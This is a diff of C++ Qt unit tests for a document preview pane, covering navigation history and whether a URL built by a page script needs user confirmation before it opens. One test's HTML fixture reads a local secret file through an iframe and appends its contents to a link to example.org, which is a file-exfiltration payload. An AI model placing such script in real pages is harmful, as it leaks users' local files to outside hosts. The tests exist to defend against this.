@@ -97,6 +97,14 @@ TEST_F(Preview, GoesToBookmarksAndBack) {
     EXPECT_EQ(Evaluate("document.body.innerText.substr(0, 5)"), "first");
     pane.GoBack();
     EXPECT_TRUE(Shows("second"));
+    Write("c.htm", "third");
+    Go("c.htm");
+    ASSERT_TRUE(Shows("third"));
+    Write("c.htm", "third, better");
+    Go("c.htm");
+    ASSERT_TRUE(Shows("third, better"));
+    pane.GoBack();
+    EXPECT_TRUE(Shows("second"));
     Go("a#1.htm");
     EXPECT_TRUE(Becomes("document.body.innerText.substr(0, 5)", "first"));
     EXPECT_EQ(Evaluate("scrollY"), "0");
@@ -231,6 +239,28 @@ QHostAddress OwnAddress() {
         if (is_v4 && !address.isLoopback() && !address.isLinkLocal()) return address;
     }
     return {};
+}
+
+TEST_F(Preview, AnAddressThatAScriptMadeIsAskedFor) {
+    folder.Write("secret.txt", "42");
+    Write("a.htm", Corner("id=x") +
+                       "<iframe id=f src=secret.txt onload=\"document.getElementById('x').href = "
+                       "'https://www.example.org/' + this.contentDocument.body.innerText;"
+                       "document.title = 'ready'\"></iframe>");
+    Go("a.htm");
+    for (const bool is_wanted : {false, true}) {
+        ASSERT_TRUE(Becomes("document.title", "ready"));
+        dialogs.Expect("PreviewMessage", [&](QWidget& dialog) {
+            EXPECT_TRUE(dialog.findChild<QLabel*>("PreviewMessageText")
+                            ->text()
+                            .contains("https://www.example.org/42"));
+            QTest::keyClick(&dialog, is_wanted ? Qt::Key_Return : Qt::Key_Escape);
+        });
+        ClickCorner();
+        EXPECT_TRUE(QTest::qWaitFor([&] { return dialogs.IsDone(); }, 20000));
+        QCoreApplication::processEvents();
+        EXPECT_EQ(opened.isEmpty(), !is_wanted);
+    }
 }
 
 TEST_F(Preview, AScriptReachesNothing) {
